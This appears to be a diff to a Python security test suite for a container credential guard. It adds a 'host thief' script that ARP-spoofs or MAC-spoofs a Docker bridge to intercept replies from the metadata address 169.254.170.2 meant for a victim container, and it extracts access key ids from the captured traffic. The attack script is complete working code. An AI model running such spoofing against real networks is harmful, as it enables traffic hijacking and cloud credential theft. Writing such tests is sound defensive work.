@@ -115,3 +115,95 @@ print(json.dumps({"ok": ok, "failed": failed,
                   "token_sha": hashlib.sha256(token.encode()).hexdigest(),
                   "key_sha": key and hashlib.sha256(key.encode()).hexdigest()}))
 """
+
+# The attack on the host's side: a thief that claims the *victim's* address to the host.
+# argv: victim IP, container port, how: "arp" or "mac". It prints "ready" and its own
+# address, then until its stdin closes (or after two minutes) it keeps on, every 1 ms:
+# - arp: telling the host that the victim's address is at the thief's MAC (ARP who-has
+#   169.254.170.2 from the victim's address, which the host believes at once, and gratuitous
+#   replies), 5 ms out of 10; the other 5 ms, that it is at the victim's MAC, so the
+#   victim's handshakes get through and the daemon's answers to its requests may come here;
+# - mac: sending IPv4 frames from its own address with the victim's MAC as source, which
+#   teach the bridge that the victim's MAC is behind the thief's port (they go to the
+#   thief's own MAC, so the bridge forwards them nowhere): the host's next frames to the
+#   victim come to the thief instead.
+# It counts the frames from 169.254.170.2 to the victim that reach it and their bytes of TCP
+# payload from the last line read on stdin on (the test's signal that the victim starts; what
+# came before may be the host's retransmissions of an earlier attack's answers), and reports
+# the SHA-256 of each access key id found in them: the daemon's answer.
+HOST_THIEF = r"""
+import hashlib, json, re, select, socket, struct, sys, time
+victim_ip, port, how = sys.argv[1], int(sys.argv[2]), sys.argv[3]
+GW, VICTIM = socket.inet_aton("169.254.170.2"), socket.inet_aton(victim_ip)
+probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+probe.connect(("169.254.170.2", 9))  # sends nothing: it only picks this container's address
+MINE = socket.inet_aton(probe.getsockname()[0])
+raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
+raw.bind(("eth0", 0))
+me = raw.getsockname()[4]
+victim_mac = b"\x02\x42" + VICTIM  # dockerd 20.10 derives a container's MAC from its address
+BROADCAST = b"\xff" * 6
+print("ready", socket.inet_ntoa(MINE), flush=True)
+
+def csum(data):
+    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
+    while s >> 16:
+        s = (s & 0xFFFF) + (s >> 16)
+    return ~s & 0xFFFF
+
+def arp(mac, op, target_mac, target_ip):
+    body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, op) + mac + VICTIM + target_mac + target_ip
+    return BROADCAST + me + b"\x08\x06" + body
+
+def claims(mac):
+    return (arp(mac, 1, b"\0" * 6, GW), arp(mac, 2, BROADCAST, VICTIM))
+
+def spoofed_source():
+    udp = struct.pack("!HHHH", 40000, 9, 8, 0)
+    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28, 0, 0x4000, 64, 17, 0, MINE, GW)
+    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
+    return me + victim_mac + b"\x08\x00" + ip + udp
+
+sent, frames, stolen, payload, last = 0, 0, 0, b"", 0.0
+deadline = time.monotonic() + 120
+while time.monotonic() < deadline:
+    if select.select([sys.stdin], [], [], 0)[0]:
+        if not sys.stdin.readline():
+            break  # stdin closed: the victim is done
+        sent, frames, stolen, payload = 0, 0, 0, b""  # "count": what came before is not ours
+    if time.monotonic() - last > 0.001:
+        # arp: 5 ms the victim's own MAC (so its handshake gets through), 5 ms the thief's
+        # (so the daemon's answer comes here)
+        mine = int(time.monotonic() * 200) % 2
+        for frame in claims(me if mine else victim_mac) if how == "arp" else (spoofed_source(),):
+            raw.send(frame)
+            sent += 1
+        last = time.monotonic()
+    if not select.select([raw], [], [], 0.0005)[0]:
+        continue
+    frame, where = raw.recvfrom(65535)
+    if where[2] == socket.PACKET_OUTGOING:
+        continue
+    kind = frame[12:14]
+    if kind == b"\x08\x06" and frame[28:32] == VICTIM:
+        victim_mac = frame[22:28]  # the victim's own ARP: its real MAC
+    if kind != b"\x08\x00" or frame[26:30] != GW or frame[30:34] != VICTIM:
+        continue
+    frames += 1
+    if frame[23] != 6:
+        continue
+    ip_len, ihl = struct.unpack("!H", frame[16:18])[0], (frame[14] & 15) * 4
+    segment = frame[14 + ihl : 14 + ip_len]
+    data = segment[(segment[12] >> 4) * 4 :]
+    stolen += len(data)
+    if len(payload) < 1 << 20:
+        payload += data
+
+keys = set(re.findall(rb'"AccessKeyId"\s*:\s*"([A-Z0-9]+)"', payload))
+print(json.dumps({"claims_sent": sent, "frames": frames, "payload_bytes": stolen,
+                  "key_shas": sorted(hashlib.sha256(k).hexdigest() for k in keys)}))
+"""
+
+# VICTIM, started before it may begin: it waits for a line on stdin (the test sends it once
+# the guard has registered the container), then fetches as VICTIM does.
+GATED_VICTIM = "import sys\nsys.stdin.readline()\n" + VICTIM
